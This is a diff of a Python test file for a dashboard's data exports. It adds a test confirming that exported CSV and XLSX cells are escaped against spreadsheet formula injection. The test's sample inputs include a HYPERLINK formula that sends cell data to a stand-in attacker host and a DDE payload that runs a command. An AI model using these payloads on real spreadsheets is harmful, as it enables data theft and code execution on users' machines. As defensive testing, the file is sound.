@@ -3,6 +3,7 @@ and the monthly PDF."""
 
 from __future__ import annotations
 
+import csv
 import io
 import subprocess
 from datetime import date, timedelta
@@ -126,8 +127,10 @@ def test_a_refused_nomination_nominates_nobody(client):
 def test_exports_are_masked_unless_a_city_admin_asks_and_that_is_audited(client):
     *_, poor, _far, uncertified = _world()
     client.login_as(make_user(Role.CITY_ADMIN))
-    csv = client.get(f"/dashboard/institutions/{poor.id}/uncertified.csv").get_data(as_text=True)
-    assert "未证乙" in csv and uncertified[0].id_number_masked in csv
+    exported = client.get(f"/dashboard/institutions/{poor.id}/uncertified.csv").get_data(
+        as_text=True
+    )
+    assert "未证乙" in exported and uncertified[0].id_number_masked in exported
     full = client.get(f"/dashboard/institutions/{poor.id}/uncertified.xlsx?full=1")
     sheet = load_workbook(io.BytesIO(full.data)).active
     ids = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
@@ -190,3 +193,23 @@ def test_the_funnel_counts_people_at_each_stage_of_this_years_plan(client):
     exported = client.get("/dashboard/funnel.xlsx")
     rows = list(load_workbook(io.BytesIO(exported.data)).active.iter_rows(values_only=True))
     assert [count for _stage, count in rows[1:]] == counts
+
+
+def test_exported_text_cannot_run_as_a_spreadsheet_formula(client):
+    hostile = [
+        '=HYPERLINK("http://attacker.example/?x="&A1,"点击")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+    ]
+    institutions = [make_institution(make_district("140403"), name=name) for name in hostile]
+    for institution in institutions:
+        make_staff(institution)
+    client.login_as(make_user(Role.CITY_ADMIN))
+    exported = client.get("/dashboard/institutions.csv").get_data(as_text=True)
+    csv_names = {row[0] for row in list(csv.reader(io.StringIO(exported.lstrip("\ufeff"))))[1:]}
+    workbook = load_workbook(io.BytesIO(client.get("/dashboard/institutions.xlsx").data))
+    cells = [row[0] for row in workbook.active.iter_rows(min_row=2)]
+    assert csv_names == {"'" + name for name in hostile}
+    assert {cell.value for cell in cells} == {"'" + name for name in hostile}
+    assert all(cell.data_type == "s" for cell in cells)  # text, not a formula
